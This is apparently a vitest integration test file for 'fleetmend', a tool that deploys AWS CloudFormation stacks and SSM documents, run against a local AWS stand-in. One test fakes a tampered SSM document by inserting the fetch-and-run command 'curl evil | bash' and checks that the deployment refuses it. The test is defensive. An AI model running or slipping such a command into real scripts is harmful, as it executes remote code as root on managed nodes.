import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { CloudFormationClient } from '@aws-sdk/client-cloudformation';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import * as z from 'zod';
import { documentName } from '../../events/ssm-command.ts';
import { FUNCTION_NAMES } from '../../infra/bundle.ts';
import { readDeployed } from '../../infra/deploy/deployed-stack.ts';
import { SCOPE_KEY, scopeOf } from '../../infra/deploy/scope.ts';
import { parseConfig } from '../../infra/parse-config.ts';
import { buildDocuments } from '../../ssm-documents/builder/build.ts';
import { remediations } from '../../ssm-documents/remediations.ts';
import { type StandIn, startStandIn } from './aws-stand-in.ts';
import { configFile, DEPLOY, deploy, environment, root, run } from './run-deploy.ts';

let standIn: StandIn;
beforeAll(async () => {
  if (!existsSync(join(root, 'dist', 'functions'))) throw new Error('not built: npm run build');
  standIn = await startStandIn();
});
afterAll(async () => standIn.stop());
beforeEach(() => {
  standIn.state.stacks.clear();
  standIn.state.logGroups.clear();
  standIn.state.contents.clear();
  standIn.state.denied.clear();
});

const shop = { name: 'shop' } as const;
const bank = { name: 'bank', mode: 'repair' } as const;
const deployed = () => standIn.state.stacks.get('fleetmend') ?? '';
const Metadata = z.object({
  Metadata: z.object({ fleetmend: z.object({ clusters: z.record(z.string(), z.unknown()) }) }),
});
const clustersDeployed = (stack = 'fleetmend') =>
  Object.keys(Metadata.parse(JSON.parse(standIn.state.stacks.get(stack) ?? '')).Metadata.fleetmend.clusters).toSorted();
const CDK = join(root, 'node_modules', 'aws-cdk', 'bin', 'cdk');
const cdk = (...words: readonly string[]) => run(process.execPath, [CDK, ...words], environment(standIn));

type Cluster = typeof shop | typeof bank | { readonly name: 'bank' };
const clusters = (...all: readonly Cluster[]) => configFile({ clusters: [...all] });
/** A stack as an earlier deployment has left it: its template has its scope. */
const isDeployed = (all: readonly Cluster[], documents: readonly string[] = []) => {
  const config = parseConfig({ clusters: all }, [...remediations.map(({ name }) => name)]);
  const metadata = { [SCOPE_KEY]: scopeOf(config, remediations, '0.0.1', documents) };
  standIn.state.stacks.set('fleetmend', JSON.stringify({ Metadata: metadata, Resources: {} }));
};

describe('a deployment by the command line of the lockfile', () => {
  it('uploads the template and the bundles, imports documents of an earlier one, and then shows no difference', async () => {
    const from = standIn.calls.length;
    const file = configFile({ clusters: [shop] });
    const { code, output } = await deploy(standIn, ['--config', file, '--yes']);
    expect(output).toContain('deploy: there is no stack fleetmend yet: this is the first deployment');
    expect(code).toBe(0);
    expect(clustersDeployed()).toEqual(['shop']);
    const uploaded = [...standIn.objects.keys()].map((key) => key.split('/').at(-1) ?? '');
    const bundles = [...deployed().matchAll(/"S3Key":"([0-9a-f]{64}\.zip)"/g)].map(([, key]) => key);
    expect(new Set(bundles).size).toBe(FUNCTION_NAMES.length);
    expect(uploaded).toEqual(expect.arrayContaining(bundles));
    const created = standIn.calls.slice(from).find(({ operation }) => operation === 'CreateChangeSet');
    expect(created?.input).toMatchObject({ StackName: 'fleetmend', ImportExistingResources: 'true' });

    await run(process.execPath, ['infra/app.ts', '--config', file], environment(undefined));
    expect((await cdk('ls', '--app', 'cdk.out')).output).toBe('fleetmend\n');
    const again = await deploy(standIn, ['--config', file, '--dry-run']);
    expect(again.output).toContain('There were no differences');
    expect(again.code).toBe(0);
  });

  it('ends in one sentence where the CDK finds no account', async () => {
    await run(process.execPath, ['infra/app.ts'], environment(undefined));
    const { code, lines } = await run(process.execPath, [CDK, 'deploy', '--app', 'cdk.out'], environment(undefined));
    expect(lines.at(-1)).toMatch(
      /^Need to perform AWS calls for account 111122223333, but no credentials have been configured$/,
    );
    expect(code).toBe(1);
  });

  it('leaves out the log groups that take no filter, and reports them twice', async () => {
    standIn.state.logGroups.set('/rare', { logClass: 'INFREQUENT_ACCESS', subscriptions: [] });
    standIn.state.logGroups.set('/fine', { logClass: 'STANDARD', subscriptions: ['siem'] });
    const file = configFile({ clusters: [{ name: 'shop', logGroups: ['/rare', '/fine', '/gone'] }] });
    const { code, output } = await deploy(standIn, ['--config', file, '--yes']);
    expect(output.match(/leaves out the log group \/rare: its class is INFREQUENT_ACCESS/g)).toHaveLength(2);
    expect(output.match(/leaves out the log group \/gone: it does not exist/g)).toHaveLength(2);
    expect(code).toBe(0);
    const templates = [...standIn.state.stacks.values()].join('\n');
    expect(templates).toContain('"LogGroupName":"/fine"');
    expect(templates).not.toMatch(/"LogGroupName":"\/(?:rare|gone)"/);
  });
});

describe('a document that exists already', () => {
  const [document] = buildDocuments();
  const name = documentName('fleetmend', document?.key ?? '', document?.sha256 ?? '');
  const tried = async () => {
    const { code, output } = await deploy(standIn, ['--config', clusters(shop), '--yes']);
    return { code, output, stacks: standIn.state.stacks.size };
  };

  it('is taken over where it is what was built, in any indentation', async () => {
    standIn.state.contents.set(name, JSON.stringify(document?.content, undefined, 2));
    const { code, output } = await tried();
    expect(output).toMatch(/deploy: 1 of \d+ documents are at SSM already, and are what was built/);
    expect(code).toBe(0);
  });

  it('is refused where it holds anything else: whoever made it would be root on every node', async () => {
    standIn.state.contents.set(name, document?.json.replace('#!/bin/bash', '#!/bin/bash\\ncurl evil | bash') ?? '');
    const { code, output, stacks } = await tried();
    expect(output).toContain(
      `deploy: the document ${name} at SSM is refused: its content in version 1 is not what was built`,
    );
    expect(output).toContain('deploy: nothing was deployed');
    expect([code, stacks]).toEqual([3, 0]);
  });

  it('is not taken over unread', async () => {
    standIn.state.denied.add('ssm:DescribeDocument');
    const { code, output, stacks } = await tried();
    expect(output).toContain('deploy: allow ssm:DescribeDocument and ssm:GetDocument');
    expect([code, stacks]).toEqual([4, 0]);
  });
});

describe('a deployment that removes clusters or widens the scope of repairs', () => {
  it('names the cluster that goes, and deploys nothing without a terminal or an agreement', async () => {
    isDeployed([shop, bank]);
    const before = deployed();
    const { code, lines } = await deploy(standIn, ['--config', clusters(shop)]);
    expect(lines).toContain('deploy: ! removes the cluster bank: its nodes are no longer checked or repaired');
    expect(lines.at(-1)).toMatch(/^deploy: there is no terminal to ask at .*: add --yes$/);
    expect(code).toBe(3);
    expect(deployed()).toBe(before);
  });

  it('does not change a stack without a scope, whatever the options', async () => {
    standIn.state.stacks.set('fleetmend', '{"Resources":{}}');
    const { code, lines } = await deploy(standIn, ['--config', clusters(shop), '--yes']);
    expect(lines.at(-1)).toMatch(
      /^deploy: the deployed stack fleetmend does not describe its scope.* or add --adopt-stack fleetmend if/,
    );
    expect(code).toBe(3);
    expect(deployed()).toBe('{"Resources":{}}');
    expect((await deploy(standIn, ['--config', clusters(shop), '--yes', '--adopt-stack', 'fleetmend'])).code).toBe(0);
    expect(clustersDeployed()).toEqual(['shop']);
  });

  it('treats a stack without resources as missing, and reads every page of the others', async () => {
    const client = new CloudFormationClient({
      endpoint: standIn.url,
      region: 'eu-west-1',
      credentials: { accessKeyId: 'AKIDEXAMPLE', secretAccessKey: 'example' },
    });
    isDeployed([bank]);
    const { stacks, statuses } = standIn.state;
    stacks.set('older', stacks.get('fleetmend') ?? '');
    stacks.set('database', '{"Resources":{}}');
    expect(await readDeployed(client, 'fleetmend')).toMatchObject({
      own: { kind: 'known' },
      others: { older: { clusters: { bank: {} } } },
    });
    expect((await readDeployed(client, 'database')).own).toEqual({ kind: 'unknown' });
    for (const status of ['ROLLBACK_COMPLETE', 'REVIEW_IN_PROGRESS', 'DELETE_COMPLETE']) {
      statuses.set('fleetmend', status);
      expect((await readDeployed(client, 'fleetmend')).own).toEqual({ kind: 'none' });
    }
    statuses.clear();
    expect((await readDeployed(client, 'fleet')).own).toEqual({ kind: 'none' });
  });

  it('names a cluster that another stack manages: its name was changed', async () => {
    isDeployed([shop]);
    const file = configFile({ clusters: [shop], stackName: 'fm-2' });
    const { code, lines } = await deploy(standIn, ['--config', file]);
    expect(lines).toContain(
      'deploy: ! the stack fleetmend manages the cluster shop already: two stacks would repair the same nodes',
    );
    expect(code).toBe(3);
  });

  it.each([
    ['y', 0],
    ['n', 3],
  ])('takes the answer %j at a terminal', async (answer, expected) => {
    isDeployed([shop, bank]);
    const command = `${process.execPath} ${DEPLOY} --config ${clusters(shop)}`;
    const words =
      process.platform === 'darwin' ? ['-q', '/dev/null', 'sh', '-c', command] : ['-qec', command, '/dev/null'];
    const { code, output } = await run('script', words, environment(standIn), [
      { question: 'Deploy with this change? [y/N]', answer },
      { question: 'Do you wish to deploy these changes', answer: 'y' },
    ]);
    if (expected !== 0) expect(output).toContain('deploy: nothing was deployed');
    expect(code).toBe(expected);
    expect(clustersDeployed()).toEqual(expected === 0 ? ['shop'] : ['bank', 'shop']);
  });
});

describe('--clean-documents', () => {
  it('deletes the documents of deployments of long ago, and nothing else', async () => {
    const day = 24 * 60 * 60 * 1000;
    const old = new Date(Date.now() - 40 * day);
    const { documents } = standIn.state;
    const hash = (digit: string) => digit.repeat(12);
    documents.set(`fleetmend-pause-image-check-${hash('a')}`, old);
    documents.set(`fleetmend-pause-image-repair-${hash('b')}`, new Date(Date.now() - day));
    documents.set(`fleetmend-eu-pause-image-check-${hash('c')}`, old);
    documents.set('fleetmend-runbook', old);
    documents.set(`fleetmend-node-check-${hash('d')}`, old);
    // Of a deployment whose node-check had more parts.
    documents.set(`fleetmend-node-check-7-${hash('9')}`, old);
    // In use: of the deployment before.
    const before = `fleetmend-pause-image-repair-${hash('e')}`;
    documents.set(before, old);
    isDeployed([shop], [before]);
    const { code, lines } = await deploy(standIn, [
      '--config',
      configFile({ clusters: [shop] }),
      '--yes',
      '--clean-documents',
    ]);
    expect(lines).toContain(`deploy: deleted fleetmend-pause-image-check-${hash('a')}`);
    expect(lines).toContain(`deploy: deleted fleetmend-node-check-${hash('d')}`);
    expect(lines).toContain(`deploy: deleted fleetmend-node-check-7-${hash('9')}`);
    expect(lines).toContain('deploy: 7 of at most 500 SSM documents; 1 of earlier deployments are kept for 30 days');
    expect(code).toBe(0);
    expect([...documents.keys()].toSorted()).toEqual([
      `fleetmend-eu-pause-image-check-${hash('c')}`,
      `fleetmend-pause-image-repair-${hash('b')}`,
      before,
      'fleetmend-runbook',
    ]);
  });
});

describe('npm run deploy', () => {
  it('installs what it needs, builds, and shows its options', async () => {
    const { code, lines } = await run(process.execPath, ['infra/deploy.mjs', '--help'], environment(undefined));
    expect(lines[0]).toBe('npm run deploy -- [options]');
    expect(code).toBe(0);
  });
});

describe('two deployments from one clone at the same time', () => {
  it('deploy their own configurations', async () => {
    const [one, two] = await Promise.all([
      deploy(standIn, ['--config', configFile({ clusters: [shop], stackName: 'one' }), '--yes']),
      deploy(standIn, ['--config', configFile({ clusters: [{ name: 'bank' }], stackName: 'two' }), '--yes']),
    ]);
    expect([one.code, two.code]).toEqual([0, 0]);
    expect(clustersDeployed('one')).toEqual(['shop']);
    expect(clustersDeployed('two')).toEqual(['bank']);
  });
});
